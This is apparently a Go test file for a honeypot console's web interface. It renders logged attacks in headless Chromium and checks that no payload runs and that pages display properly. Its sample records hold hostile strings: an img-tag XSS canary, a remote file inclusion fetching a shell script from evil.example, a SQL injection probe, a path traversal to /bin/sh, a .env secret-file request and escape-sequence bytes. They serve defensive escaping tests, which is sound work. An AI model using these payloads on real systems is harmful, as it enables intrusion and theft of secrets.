//go:build peers

package web

import (
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/trapline/trapline/audit"
	"github.com/trapline/trapline/console/store"
)

// chromium runs a headless browser on address and returns what it prints on standard output.
func chromium(t *testing.T, address string, args ...string) string {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("SKIPPED: chromium is not installed")
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, path, append([]string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--hide-scrollbars", "--user-data-dir=" + t.TempDir(),
	}, append(args, address)...)...)
	var errs strings.Builder
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("chromium: %v\n%s", err, errs.String())
	}
	return string(out)
}

// asAdmin serves the console with the session of its user in every request, and
// counts requests for anything called pwned: only a payload that ran asks for it.
func asAdmin(t *testing.T, c *console) (srv *httptest.Server, pwned *atomic.Int32) {
	t.Helper()
	token, err := c.control.NewSession(t.Context(), "admin", netip.MustParseAddr("127.0.0.1"), "test")
	if err != nil {
		t.Fatal(err)
	}
	pwned = new(atomic.Int32)
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "pwned") {
			pwned.Add(1)
		}
		if !strings.HasPrefix(r.URL.Path, "/sign-in") {
			r.AddCookie(&http.Cookie{Name: "trapline-" + sessionCookie, Value: token})
		}
		c.Config.Handler.ServeHTTP(w, r)
	}))
	t.Cleanup(func() {
		srv.CloseClientConnections()
		srv.Close()
	})
	return srv, pwned
}

// TestNoPayloadRunsInABrowser opens the pages that show hostile fields in chromium.
func TestNoPayloadRunsInABrowser(t *testing.T) {
	c := startConsole(t, nil)
	insertHostile(t, c)
	srv, pwned := asAdmin(t, c)
	// The net must hold: a page that runs the payload is seen.
	trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "pwned") {
			pwned.Add(1)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, payloads()[0], payloads()[1])
	}))
	defer trap.Close()
	chromium(t, trap.URL, "--dump-dom", "--virtual-time-budget=2000")
	if pwned.Load() == 0 {
		t.Fatal("the test does not see a payload that runs")
	}
	pwned.Store(0)
	paths := []string{"/events", "/sensors"}
	for i := range payloads() {
		paths = append(paths, "/events/east-1/hostile-"+string(rune('a'+i)))
	}
	for _, path := range paths {
		dom := chromium(t, srv.URL+path, "--dump-dom", "--timeout=2500")
		if !strings.Contains(dom, "Trapline") {
			t.Errorf("%s: %s", path, dom)
		}
		if n := pwned.Load(); n > 0 {
			t.Fatalf("%s: a payload ran", path)
		}
	}
}

// TestRowsArriveInABrowser: a page that is open gets an event which comes after it was loaded.
func TestRowsArriveInABrowser(t *testing.T) {
	c := startConsole(t, nil)
	srv, pwned := asAdmin(t, c)
	inner := srv.Config.Handler
	srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// The browser prints the page when its load is complete: an image that comes late holds that up.
		if strings.HasSuffix(r.URL.Path, "/icon.svg") {
			time.Sleep(2 * time.Second)
		}
		if r.URL.Path == "/events/live" {
			time.AfterFunc(200*time.Millisecond, func() {
				record := testRecord(4711)
				record.RequestHead = []byte("GET /late-<img/src=/pwned> HTTP/1.1\r\n")
				c.store.Insert(context.Background(), []store.Event{{Sensor: "s", Entry: audit.AppendNative(nil, record), Record: record}})
			})
		}
		inner.ServeHTTP(w, r)
	})
	dom := chromium(t, srv.URL+"/events", "--dump-dom", "--timeout=4000")
	if !strings.Contains(dom, "/late-&lt;img/src=/pwned&gt;") || !strings.Contains(dom, "Live") || pwned.Load() > 0 {
		t.Error(dom)
	}
}

// TestPictures writes a picture of each page into the folder that TRAPLINE_PICTURES names.
func TestPictures(t *testing.T) {
	dir := os.Getenv("TRAPLINE_PICTURES")
	if dir == "" {
		t.Skip("TRAPLINE_PICTURES names no folder")
	}
	now := time.Now()
	c := startConsole(t, func(cfg *Config) {
		cfg.Version = "0.1.0"
		cfg.Decisions = func(context.Context) ([]Decision, error) {
			return []Decision{
				{Value: netip.MustParsePrefix("192.0.2.3/32"), Type: "ban", Scenario: "ip.malicious_client", Origin: "honeytrap", Created: now.Add(-3 * time.Minute), Until: now.Add(23 * time.Hour)},
				{Value: netip.MustParsePrefix("2001:db8:5::/64"), Type: "watch", Scenario: "fake form field filled", Origin: "east-1", Created: now.Add(-2 * time.Hour), Until: now.Add(40 * time.Minute)},
			}, nil
		}
		cfg.Unban = func(context.Context, netip.Addr) error { return nil }
	})
	srv, _ := asAdmin(t, c)
	shoot := func(name, path, size string, args ...string) {
		chromium(t, srv.URL+path, append(args, "--timeout=1500", "--window-size="+size, "--screenshot="+filepath.Join(dir, name+".png"))...)
	}
	shoot("empty", "/events", "1280,800")
	// chromium cannot send a form from its command line: the answer to one is served as a page.
	c.signIn()
	_, fresh := c.do("POST", "/sensors", url.Values{"token": {c.token("/sensors")}, "name": {"south-3"}})
	inner := srv.Config.Handler
	srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/fresh" {
			inner.ServeHTTP(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, fresh)
	})
	shoot("fresh", "/fresh", "1280,900")
	shoot("signin", "/sign-in", "1280,800")
	picture := pictureRecords(now)
	for i, r := range picture {
		if _, err := c.store.Insert(t.Context(), []store.Event{{Sensor: []string{"local", "east-1", "west-2"}[i%3], Entry: audit.AppendNative(nil, r), Record: r}}); err != nil {
			t.Fatal(err)
		}
	}
	insertHostile(t, c)
	c.control.AddSensor(t.Context(), "east-1")
	c.control.SetSensor(t.Context(), "honeypot-sensor", "test1234")
	for _, scheme := range []string{"", "dark-"} {
		var args []string
		if scheme != "" {
			args = []string{"--blink-settings=preferredColorScheme=0"}
		}
		shoot(scheme+"events", "/events?to="+timeText(now.Add(-time.Minute)), "1280,1100", args...)
		shoot(scheme+"filter", "/events?port=8000&client=192.0.2.0/24&status=9999", "1280,900", args...)
		shoot(scheme+"event", "/events/local/"+picture[0].ID, "1280,1900", args...)
		shoot(scheme+"hostile", "/events", "1280,1100", args...)
		shoot(scheme+"decisions", "/decisions", "1280,600", args...)
		shoot(scheme+"sensors", "/sensors", "1280,700", args...)
		shoot(scheme+"account", "/account", "1280,700", args...)
	}
	shoot("hostile-event", "/events/east-1/hostile-k", "1280,2000")
	for name, path := range map[string]string{"events": "/events?to=" + timeText(now.Add(-time.Minute)), "event": "/events/local/" + picture[0].ID, "sensors": "/sensors", "decisions": "/decisions"} {
		shoot("phone-"+name, path, "500,1500")
	}
}

// pictureRecords are two days of what a trap sees.
func pictureRecords(now time.Time) []*audit.Record {
	random := rand.New(rand.NewPCG(1, 2))
	requests := []struct{ line, agent, rule, message, severity string }{
		{"GET /index.php?page=http://evil.example/shell.txt%3f HTTP/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "931100", "Possible Remote File Inclusion (RFI) Attack", "CRITICAL"},
		{"GET /.env HTTP/1.1", "python-requests/2.31.0", "930130", "Restricted File Access Attempt", "CRITICAL"},
		{"GET / HTTP/1.1", "Mozilla/5.0 zgrab/0.x", "", "", ""},
		{"POST /wp-login.php HTTP/1.1", "Mozilla/5.0 (X11; Linux x86_64)", "", "", ""},
		{"GET /item?id=1%27%20UNION%20SELECT%20null,version()--%20- HTTP/1.1", "sqlmap/1.7.2#stable (https://sqlmap.org)", "942100", "SQL Injection Attack Detected via libinjection", "CRITICAL"},
		{"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "curl/7.88.1", "930100", "Path Traversal Attack (/../)", "CRITICAL"},
		{"CONNECT evil.example:443 HTTP/1.1", "", "", "", ""},
		{"GET /robots.txt HTTP/1.1", "Mozilla/5.0 (compatible; CensysInspect/1.1)", "", "", ""},
	}
	var out []*audit.Record
	for i := range 180 {
		q := requests[i%len(requests)]
		r := testRecord(i)
		r.ID = fmt.Sprintf("aw%022dAA", i)
		r.Time = now.Add(-time.Duration(float64(48*time.Hour) * random.Float64() * random.Float64())).UTC()
		r.Client = netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(random.IntN(40))}), uint16(40000+i))
		if i%11 == 5 {
			r.Client = netip.MustParseAddrPort("[2001:db8:5::9]:40000")
		}
		r.Peer = r.Client
		r.Server = netip.AddrPortFrom(r.Server.Addr(), []uint16{8000, 8000, 8080, 8888}[i%4])
		r.RequestHead = []byte(q.line + "\r\nHost: www.example.com\r\nUser-Agent: " + q.agent + "\r\nAccept: */*\r\nX-Probe: \x1b[1m\u202etest\r\nConnection: close\r\n")
		r.ResponseHead = []byte("HTTP/1.1 403 Forbidden\r\nContent-Length: 239\r\nContent-Type: text/html\r\n")
		r.ResponseBody = []byte("<!DOCTYPE html>\n<title>403 Forbidden</title>\n<h1>Forbidden</h1>\n")
		r.ResponseBodySize = int64(len(r.ResponseBody))
		r.Matches[0].File, r.Matches[0].Line, r.Matches[0].Tags = "/etc/trapline/modsecurity_crs_10_honeypot.conf", 25, []string{"honeytrap", "attack-generic"}
		if q.rule != "" {
			id := 0
			fmt.Sscan(q.rule, &id)
			r.Matches = append([]audit.Match{{ID: id, Phase: 2, Operator: "Matched.", Message: q.message, Severity: q.severity, Data: "Matched Data: found within ARGS:page", File: "REQUEST-931.conf", Line: 40, Version: "OWASP_CRS/4.25.0", Tags: []string{"attack-rfi", "paranoia-level/1", "OWASP_CRS", "capec/1000/152/175/253"}}}, r.Matches...)
		}
		r.Rules = []audit.RuleText{{ID: 999004, Raw: `SecRule SERVER_PORT "^(8000|8080|8888)$" "id:999004,phase:2,t:none,log,block,msg:'HoneyTrap Alert: Traffic Received on Fake Port.',setvar:ip.malicious_client=1"`}}
		if i == 0 {
			r.RequestBody = []byte("user=admin&\x00\x01\x02pw=\xff\xfe%27or+1=1\nnext line")
			r.TLS = &audit.TLS{Version: "1.3", Server: "www.example.com", ALPN: []string{"h2", "http/1.1"}, JA4: "t13d1516h2_8daaf6152771_b186095e22b6"}
			r.Trailer = []audit.Field{{Name: "Producer", Value: "Trapline/0.1.0"}, {Name: "Engine-Mode", Value: `"ENABLED"`}}
		}
		switch i % 20 {
		case 13:
			r.Kind, r.RequestHead, r.ResponseHead, r.ResponseBody, r.Status, r.Action = audit.KindBytes, []byte("SSH-2.0-Go\r\n"), nil, nil, 0, nil
		case 17:
			r.Kind, r.RequestHead, r.ResponseHead, r.ResponseBody, r.Status, r.Action = audit.KindConnect, nil, nil, nil, 0, nil
		}
		out = append(out, r)
	}
	return out
}
